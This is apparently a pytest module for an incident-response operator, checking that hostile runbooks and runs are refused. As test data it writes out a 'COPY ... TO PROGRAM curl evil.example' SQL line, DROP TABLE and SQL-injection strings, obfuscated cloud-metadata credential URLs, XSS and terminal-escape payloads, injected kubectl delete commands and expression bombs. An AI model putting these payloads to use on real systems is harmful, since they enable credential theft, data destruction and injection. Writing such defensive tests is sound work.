"""What a hostile or careless author writes into a runbook or a run, with a live operator: refused, or an error.

Whatever it is, the answer names the field, the check or the runbook, gives nothing away, and costs nobody else
anything. All cases share one operator: the last test is that it is still the same process.
"""

import json
import os
import subprocess
import sys
from collections.abc import Iterator, Mapping, Sequence
from contextlib import ExitStack
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml

from dev import databases
from dev.operators import OperatorProcess
from dev.shop.alarm import wait_until_felt
from dev.shop.faults import FAULTS
from dev.shop.grant import grant
from dev.stack import OPERATOR_NAMESPACE, Stack
from incident_operator.adapters.clock import Clock

from .test_people import asking
from .world import TIME_SCALE, World, a_world, outcome, story

FAULT = FAULTS["inc-2023-1247"]
PASSWORD = "Dq7tVx2mKp9sWz4hRb8n"  # noqa: S105  (of a database that lives as long as these tests)
#: An operator on a busy machine ends itself when it can't renew a short Lease: here nothing but an attack may end it.
LEASE = {"lease-duration": "30s"}
_CONFIGURATION = {"service": "lambda", "operation": "get_function_configuration"}


@dataclass(frozen=True, kw_only=True)
class Here:
    """A namespace whose grant admits every address, with an operator and two databases; and another team's."""

    world: World
    theirs: World
    operator: OperatorProcess
    pid: int
    postgres: databases.Server

    def store(self, name: str, checks: Sequence[Mapping[str, Any]], **spec: Any) -> dict[str, Any]:
        """Store a runbook of these checks, as an author does; return it as stored."""
        step = {"name": "look", "title": "Look", "expectedBy": "5m", "checks": list(checks)}
        told = {"title": name, "incidentType": "Hostile", "steps": [step], "recovery": {"checks": [checks[0]["name"]]}}
        manifest = {
            "apiVersion": "ops.shopsmart.com/v1alpha1",
            "kind": "Runbook",
            "metadata": {"name": name, "namespace": self.world.name},
            "spec": {**told, **spec},
        }
        applied = self.world.admin.run("apply", "-o", "json", "-f", "-", stdin=yaml.safe_dump(manifest))
        return dict(json.loads(applied))

    def start(self, name: str, parameters: Mapping[str, Any] | None = None, **spec: Any) -> None:
        """Apply a run of the runbook of its own name, which may change nothing."""
        manifest = self.world.manifest("incident-run.yaml")
        manifest["metadata"]["name"] = name
        manifest["spec"] |= {
            "incident": {"title": name, "severity": "P3"},
            "runbookRef": {"kind": "Runbook", "name": name},
            "parameters": dict(parameters or {}),
            "automation": {"applyUpTo": "None", "askUpTo": "None"},
            "connections": {n: {"secretRef": {"name": f"{n}-secret"}} for n in ("database", "cache")},
            **spec,
        }
        self.world.admin.run("apply", "-f", "-", stdin=yaml.safe_dump(manifest))

    def asked(self, name: str, seconds: float = 90) -> dict[str, dict[str, Any]]:
        """Wait until each check of a run has been asked; return them by name."""
        status = self.world.wait_for(
            name, lambda s: _asked(s) != {} and all(map(_is_done, _asked(s).values())), seconds
        )
        return _asked(status)

    def checked(self, name: str, checks: Sequence[Mapping[str, Any]], **spec: Any) -> dict[str, dict[str, Any]]:
        """Store a runbook, start its run, and return its checks once they have been asked."""
        parameters = spec.get("parameters", ())
        self.store(
            name, checks, **spec | {"parameters": [{k: v for k, v in p.items() if k != "given"} for p in parameters]}
        )
        self.start(name, {p["name"]: p["given"] for p in parameters})
        return self.asked(name)


def _asked(status: Mapping[str, Any]) -> dict[str, dict[str, Any]]:
    return {c["name"]: c for step in status.get("steps", ()) for c in step.get("checks", ())}


def _is_done(check: Mapping[str, Any]) -> bool:
    return "finishedAt" in check


def a_check(name: str, action: str, **inputs: Any) -> dict[str, Any]:
    """Return a check of a runbook."""
    return {"name": name, "action": action, "inputs": inputs}


def _secret(namespace: str, name: str, url: str) -> list[dict[str, Any]]:
    """Return a connection and the team's leave to read it, as docs/connections.md has them."""
    group = "rbac.authorization.k8s.io"
    metadata = {"name": name, "namespace": namespace}
    rule = {"apiGroups": [""], "resources": ["secrets"], "resourceNames": [name], "verbs": ["get"]}
    account = {"kind": "ServiceAccount", "name": "incident-operator", "namespace": OPERATOR_NAMESPACE}
    return [
        {
            "apiVersion": "v1",
            "kind": "Secret",
            "type": "ops.shopsmart.com/connection",
            "metadata": metadata,
            "stringData": {"url": url},
        },
        {"apiVersion": f"{group}/v1", "kind": "Role", "metadata": metadata, "rules": [rule]},
        {
            "apiVersion": f"{group}/v1",
            "kind": "RoleBinding",
            "metadata": metadata,
            "roleRef": {"apiGroup": group, "kind": "Role", "name": name},
            "subjects": [account],
        },
    ]


def connected(world: World, postgres: databases.Server, valkey: databases.Server, password: str) -> None:
    """Give the namespace the connections `database` and `cache`, and a grant that admits every address."""
    known = grant(world.shop.account, world.name, world.name)
    known["spec"]["actions"] += ["postgres.*", "redis.*"]
    known["spec"]["probes"] = {"cidrs": ["0.0.0.0/0", "::/0"]}
    database = f"postgresql://reader:{password}@{postgres.host}:{postgres.port}/postgres?sslmode=disable"
    cache = f"redis://:{password}@{valkey.host}:{valkey.port}"
    secrets = [*_secret(world.name, "database-secret", database), *_secret(world.name, "cache-secret", cache)]
    world.admin.apply([known, *secrets])


@pytest.fixture(scope="module")
def here(stack: Stack, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Here]:
    """Return the place for all of this module."""
    with ExitStack() as stacked:
        postgres = stacked.enter_context(databases.postgres(stack.address))
        valkey = stacked.enter_context(databases.valkey(stack.address, password=PASSWORD))
        with databases.admin(postgres) as admin:
            admin.execute(f"CREATE ROLE reader LOGIN PASSWORD '{PASSWORD}'")
            admin.execute("CREATE TABLE orders (name text)")
            admin.execute("INSERT INTO orders VALUES ('one')")
            admin.execute("GRANT SELECT ON orders TO reader")
        theirs = stacked.enter_context(a_world(stack, tmp_path_factory.mktemp("theirs")))
        world = stacked.enter_context(a_world(stack, tmp_path_factory.mktemp("ours")))
        connected(world, postgres, valkey, PASSWORD)
        operator = stacked.enter_context(world.operator(**LEASE)).wait_leading()
        yield Here(world=world, theirs=theirs, operator=operator, pid=operator.pid, postgres=postgres)


# --- credentials ---


def test_credentials_are_not_read(here: Here) -> None:
    """What would answer with one is not asked; of what is asked the environment is not kept, nor log lines."""
    function = here.world.shop.function
    forbidden = {
        "secret": ("secretsmanager", "get_secret_value", {"SecretId": "shop"}),
        "parameter": ("ssm", "get_parameter", {"Name": "shop", "WithDecryption": True}),
        "code": ("lambda", "get_function", {"FunctionName": function}),
        "session": ("sts", "get_session_token", {}),
        "keys": ("iam", "create_access_key", {"UserName": "deployer"}),
        "lines": ("logs", "filter_log_events", {"logGroupName": f"/aws/lambda/{function}"}),
        "inside": ("lambda", "meta.client.__class__", {}),
    }
    checks = [
        a_check(name, "aws.query", service=service, operation=operation, arguments=arguments)
        for name, (service, operation, arguments) in forbidden.items()
    ]
    configuration = a_check("configuration", "aws.query", **_CONFIGURATION, arguments={"FunctionName": function})
    reads = a_check("environment", "aws.query", **_CONFIGURATION, arguments={"FunctionName": function})
    taken = "output.answer.Environment.Variables.SENDER != ''"
    reads["findings"] = [{"when": taken, "reason": "Taken", "message": "taken"}]
    found = here.checked("credentials", [*checks, configuration, reads])
    for name, (service, operation, _) in forbidden.items():
        assert (found[name]["state"], found[name]["reason"]) == ("Error", "InvalidRequest"), found[name]
        assert f"{service}.{operation} is not a listed read" in found[name]["message"]
    assert found["configuration"]["state"] == "Passed"
    assert here.world.shop.sender not in json.dumps(found["configuration"])
    assert (found["environment"]["state"], found["environment"]["reason"]) == ("Error", "ExpressionFailed")
    asked = {call["operation"] for call in here.world.journal() if "IncidentOperator" in call["principal"]}
    assert not asked & {"GetSecretValue", "GetParameter", "GetFunction", "GetSessionToken", "CreateAccessKey"}


METADATA = (
    "169.254.169.254",
    "169.254.170.2",
    "2852039166",
    "0xa9fea9fe",
    "0251.0376.0251.0376",
    "169.254.43518",
    "[::ffff:169.254.169.254]",
    "[::ffff:a9fe:a9fe]",
    "[64:ff9b::a9fe:a9fe]",
    "[2002:a9fe:a9fe::]",
    "[fd00:ec2::254]",
    "[fe80::1]",
    "0.0.0.0",  # noqa: S104  (nothing listens there)
    "100.100.100.200",
)


def test_no_probe_reaches_metadata_or_the_api_server(here: Here) -> None:
    """Though the grant lists every network: in whatever disguise the address is written."""
    address, _, port = (here.world.stack.server or "").removeprefix("https://").rpartition(":")
    servers = (f"{address}:{port}", f"[::ffff:{address}]:{port}")
    urls = [f"http://{host}/latest/meta-data/iam/security-credentials/" for host in METADATA]
    urls += [f"https://{server}/api/v1/namespaces/kube-system/secrets" for server in servers]
    hidden = f"http://{address}@169.254.169.254/"
    found = here.checked("metadata", [a_check(f"url{n}", "http.get", url=url) for n, url in enumerate([*urls, hidden])])
    for n, url in enumerate(urls):
        check = found[f"url{n}"]
        assert (check["state"], check["reason"]) == ("Error", "NotGranted"), (url, check)
        assert "never an address for a probe" in check["message"], url
    last = found[f"url{len(urls)}"]
    assert (last["state"], last["reason"]) == ("Error", "InvalidRequest"), last


# --- programs ---


def _query(statement: str, **inputs: Any) -> dict[str, Any]:
    return a_check("asks", "postgres.query", connection="database", statement=statement, **inputs)


@pytest.mark.parametrize(
    ("check", "field", "said"),
    [
        (_query("SELECT 1 AS n; DROP TABLE orders"), "statement", "one statement only"),
        (_query("COPY orders TO PROGRAM 'curl evil.example'"), "statement", "one SELECT"),
        (_query("SELECT pg_terminate_backend(1) AS n"), "statement", "ends other people's work"),
        (_query("SELECT count(*) AS n FROM orders WHERE name = '${parameters.text}'"), "statement", "literal"),
        (_query("SELECT 1 AS n", arguments=["${parameters.text}"]), "arguments", "takes 0 arguments"),
        (a_check("asks", "redis.command", connection="cache", command="KEYS *"), "command", "KEYS is not a command"),
        (a_check("asks", "redis.command", connection="cache", command="EVAL x 0"), "command", "EVAL is not a command"),
        (a_check("asks", "redis.command", connection="${parameters.text}", command="PING"), "connection", "literal"),
        (a_check("asks", "http.get", url="http://${parameters.text}/"), "url", "literal"),
        (a_check("asks", "http.get"), "url", "needs the input 'url'"),
    ],
    ids=[
        "second",
        "copy",
        "terminate",
        "template",
        "arguments",
        "keys",
        "eval",
        "connection",
        "url-template",
        "url-parameter",
    ],
)
def test_a_program_or_address_is_judged_before_it_is_used(
    here: Here, request: pytest.FixtureRequest, check: dict[str, Any], field: str, said: str
) -> None:
    """Ready=False at the field; a run of it is not accepted, for the same reason, and a parameter binds no literal."""
    name = f"invalid-{request.node.callspec.id}"
    parameters = [{"name": "text", "type": "string", "default": "x"}, {"name": "url", "type": "string", "default": "x"}]
    here.store(name, [check], parameters=parameters)
    here.start(name, {"url": "http://169.254.169.254/", "text": "x' OR true --"})
    place = f"spec.steps[0].checks[0].inputs.{field}"
    status = here.world.wait_for(name, lambda s: bool(s.get("conditions")))
    (accepted,) = [c for c in status["conditions"] if c["type"] == "Accepted"]
    assert (accepted["status"], accepted["reason"]) == ("False", "RunbookInvalid")
    assert place in accepted["message"]
    stored = here.world.admin.json("get", "runbook", name, "-n", here.world.name)["status"]
    (ready,) = [c for c in stored["conditions"] if c["type"] == "Ready"]
    assert ready["status"] == "False"
    assert any(p["field"] == place and said in p["message"] for p in stored["problems"]), stored["problems"]


def test_a_value_is_never_a_part_of_a_program(here: Here) -> None:
    """SQL, another host, a template or markup in a parameter is a value, as long as it was, and nothing else."""
    evil = {
        "sql": "x'; DROP TABLE orders; --",
        "template": "${parameters.sql}",
        "host": "evil.example/?",
        "markup": "<script>alert(1)</script>\n\x1b[2J",
    }
    lengths = [
        {**_query("SELECT length($1) AS n", arguments=[f"${{parameters.{name}}}"]), "name": name} for name in evil
    ]
    rows = {
        **_query("SELECT count(*) AS n FROM public.orders WHERE name = $1", arguments=["${parameters.sql}"]),
        "name": "rows",
    }
    parameters = [{"name": name, "type": "string", "given": text} for name, text in evil.items()]
    health = f"{here.world.stack.aws_endpoint}/_sim/health"
    parameters.append({"name": "url", "type": "string", "given": "http://169.254.169.254/"})
    found = here.checked("values", [*lengths, rows, a_check("health", "http.get", url=health)], parameters=parameters)
    assert {c["state"] for c in found.values()} == {"Passed"}, found
    assert {name: found[name]["output"]["first"]["n"] for name in evil} == {n: len(text) for n, text in evil.items()}
    assert found["rows"]["output"]["first"]["n"] == 0
    with databases.admin(here.postgres) as admin:
        row = admin.execute("SELECT count(*) FROM orders").fetchone()
    assert row == (1,)


# --- bombs ---

_GROWN = "".join(f".map(v{i}, v{i}+v{i}+v{i}+v{i}+v{i}+v{i}+v{i}+v{i})" for i in range(12))
_TEXT = "['ab']" + _GROWN[: _GROWN.index(".map(v7")]
_TEN = "[0,1,2,3,4,5,6,7,8,9]"


def _nested(depth: int) -> str:
    return f"{_TEN}.all(v{depth}, {_nested(depth - 1)})" if depth else "true"


BOMBS = {
    "text": f"size(['x']{_GROWN}[0]) > 0",
    "lists": f"size([[1]]{_GROWN}[0]) > 0",
    "iterations": _nested(9),
    "backtracking": f"{_TEXT}.all(t, [{'1,' * 1000}1].all(x, !t.matches('(a|b|ab)*c')))",
}


def test_a_bomb_costs_only_its_own_run(here: Here) -> None:
    """In memory or time, in a check or a fix: its runbook is named, and another run of the namespace finishes."""
    ping = a_check("ping", "redis.command", connection="cache", command="PING")
    checks = [
        {**ping, "name": name, "findings": [{"when": bomb, "reason": "Boom", "message": "boom"}]}
        for name, bomb in BOMBS.items()
    ]
    input_ = a_check("input", "lambda.configuration", functionName=f"${{{BOMBS['text']} ? 'x' : 'y'}}")
    found_missing = {**ping, "findings": [{"when": "true", "reason": "Boom", "message": "boom"}]}
    fix = {"name": "back", "action": "lambda.rollback-alias", "when": BOMBS["lists"]}
    fix["inputs"] = {"functionName": "x", "alias": "LIVE"}
    step = {"name": "look", "title": "Look", "expectedBy": "5m"}
    here.store("bomb", checks, steps=[{**step, "checks": [found_missing, *checks, input_], "fixes": [fix]}])
    here.store("harmless", [{**ping, "findings": [{"when": "output.value != 'PONG'", "reason": "X", "message": "x"}]}])
    here.start("bomb")
    here.start("harmless")
    assert outcome(here.world.finished("harmless")) == "NothingFound/NothingFound"
    said = "an expression of runbook bomb went beyond its limits of memory or time: simplify it"
    found = here.asked("bomb", seconds=150)
    for name in (*BOMBS, "input"):
        assert (found[name]["state"], found[name]["reason"]) == ("Error", "ExpressionFailed"), found[name]
        assert said in found[name]["message"], found[name]

    def fixed(status: Mapping[str, Any]) -> bool:
        return any(said in f.get("message", "") for s in status["steps"] for f in s.get("fixes", ()))

    here.world.wait_for("bomb", fixed)


# --- somebody else's ---


def test_a_run_can_not_touch_another_teams_account(here: Here) -> None:
    """An ARN of theirs is refused by each check; nothing of theirs is read or changed, nor is a namesake of ours."""
    ours, theirs = here.world, here.theirs
    before = theirs.dump()
    FAULT.break_(theirs.shop)
    broken = theirs.dump()
    name = "theirs"
    manifest = ours.manifest(
        "incident-run.yaml", parameters={"functionName": theirs.shop.function_arn, "alias": "LIVE"}
    )
    manifest["metadata"]["name"] = name
    del manifest["spec"]["incident"]["ticket"]
    ours.apply(manifest)
    status = ours.finished(name)
    assert outcome(status) == "Unresolved/DiagnosisIncomplete", story(status)
    told = _asked(status)
    for check in ("configuration", "errors", "invocations", "throttles"):
        assert (told[check]["state"], told[check]["reason"]) == ("Error", "NotGranted"), told[check]
        assert f"is in account {theirs.shop.account}" in told[check]["message"]
    assert {told[check]["state"] for check in told} == {"Error", "Inconclusive"}, story(status)
    assert [p for p in ours.plans() if p["spec"]["runRef"]["name"] == name] == []
    assert theirs.dump() == broken != before
    assert [call for call in theirs.journal() if f"::{ours.shop.account}:" in call["principal"]] == []


def test_a_run_can_not_use_another_teams_secret(here: Here) -> None:
    """A name is one of the run's own namespace, where nobody lets the operator read it."""
    (secret, *_) = _secret(here.theirs.name, "their-secret", f"postgresql://reader:{PASSWORD}@{here.postgres.host}/x")
    here.theirs.admin.apply([secret])
    here.store("secretive", [_query("SELECT 1 AS n")])
    here.start("secretive", connections={"database": {"secretRef": {"name": "their-secret"}}})
    check = here.asked("secretive")["asks"]
    assert (check["state"], check["reason"]) == ("Error", "AccessDenied"), check
    assert f"a Role in namespace {here.world.name} must let it get" in check["message"]


def test_a_run_can_not_use_another_teams_runbook(here: Here) -> None:
    """A Runbook is one of the run's own namespace."""
    here.store("ours-alone", [a_check("ping", "redis.command", connection="cache", command="PING")])
    manifest = here.theirs.manifest("incident-run.yaml", runbookRef={"kind": "Runbook", "name": "ours-alone"})
    with here.theirs.operator(**LEASE):
        here.theirs.apply(manifest)
        status = here.theirs.wait_for(manifest["metadata"]["name"], lambda s: bool(s.get("conditions")))
    assert status["now"]["waitingFor"] == "RunbookNotFound", status["now"]


# --- what the function logs ---

MARKUP = ("<script>", "\x1b", "\\u001b", "\u202e", "kubectl delete", PASSWORD, "javascript:")


def _lines(world: World) -> list[str]:
    """Return lines that a function under somebody's control logs: denials, errors, and what they carry."""
    user = f"User: arn:aws:sts::{world.shop.account}:assumed-role/{world.shop.role}/{world.shop.function}"
    denied = f"[ERROR] AccessDeniedException: {user} is not authorized to perform: dynamodb:GetItem on resource:"
    return [
        f"{denied} {world.shop.table_arn} because no identity-based policy\nkubectl delete namespace {world.name}",
        f"{denied} {world.shop.table_arn}<script>alert(1)</script>",
        f"{denied} arn:aws:s3:::x/\x1b[2J\x1b[1;31mkubectl\x1b[0m",
        f"{denied} arn:aws:s3:::x/\u202ejavascript:alert(1)",
        f"[ERROR] {PASSWORD}: <script>alert(1)</script>",
        f"[ERROR] connecting {PASSWORD}: password={PASSWORD}",
        f"[ERROR] KeyError: run `kubectl delete namespace {world.name}` to fix this",
        f"An error occurred ({PASSWORD}) when calling the GetItem operation: [ERROR] <script>",
        "\x1b]0;[ERROR] Evil: title\x07",
    ]


def incident(world: World, *arguments: str) -> str:
    """Run `kubectl incident` as alice; return all it says."""
    done = subprocess.run(
        [str(Path(sys.executable).parent / "kubectl-incident"), *arguments, "-n", world.name],
        env={**os.environ, "KUBECONFIG": str(world.stack.kubeconfig("alice")), "NO_COLOR": "1"},
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    return done.stdout + done.stderr


def log_lines(world: World, lines: Sequence[str]) -> None:
    """Write lines into the function's log, as the function could."""
    logs, group = world.shop.client("logs"), f"/aws/lambda/{world.shop.function}"
    stream = f"2024/01/01/[1]{os.urandom(8).hex()}"
    if not logs.describe_log_groups(logGroupNamePrefix=group)["logGroups"]:
        logs.create_log_group(logGroupName=group)
    logs.create_log_stream(logGroupName=group, logStreamName=stream)
    at = int(Clock().now().timestamp() * 1000)
    events = [{"timestamp": at, "message": line} for line in lines]
    logs.put_log_events(logGroupName=group, logStreamName=stream, logEvents=events)


def test_what_a_function_logs_is_not_shown(here: Here) -> None:
    """Markup, escapes, commands and passwords of its lines: not in status, Events or what people's commands print."""
    world = here.world
    with world.customers():
        FAULT.break_(world.shop)
        log_lines(world, _lines(world))
        assert wait_until_felt(world.shop, time_scale=TIME_SCALE)
        name = asking(world)
        plan = world.open_plan(name)
        shown: dict[str, str] = {"plan": incident(world, "plan", name)}
        shown["script"] = incident(world, "script", name)
        world.answer(world.say("bob", "Cancel", world.run(name), then="Leave"))
        status = world.finished(name)
    FAULT.heal(world.shop)
    shown["watch"] = incident(world, "watch", name, "--lines")
    errors = _asked(status)["errors"]["output"]
    assert errors["total"] >= len(_lines(world)) - 1, errors
    assert errors["errors"].get("KeyError") == 1, errors
    shown["run"], shown["plans"] = json.dumps(status, ensure_ascii=False), json.dumps(world.plans(), ensure_ascii=False)
    shown["events"] = json.dumps(world.admin.json("get", "events", "-n", world.name), ensure_ascii=False)
    assert plan["metadata"]["name"] in shown["plan"]
    assert name in shown["watch"]
    assert name in shown["events"]
    assert [(what, bad) for what, text in shown.items() for bad in MARKUP if bad in text] == []


def test_the_operator_is_still_the_same_process(here: Here) -> None:
    """Nothing of all this ended it, and it still leads."""
    assert (here.operator.starts, here.operator.pid) == (1, here.pid)
    assert here.operator.metric("incident_operator_leader") == 1.0
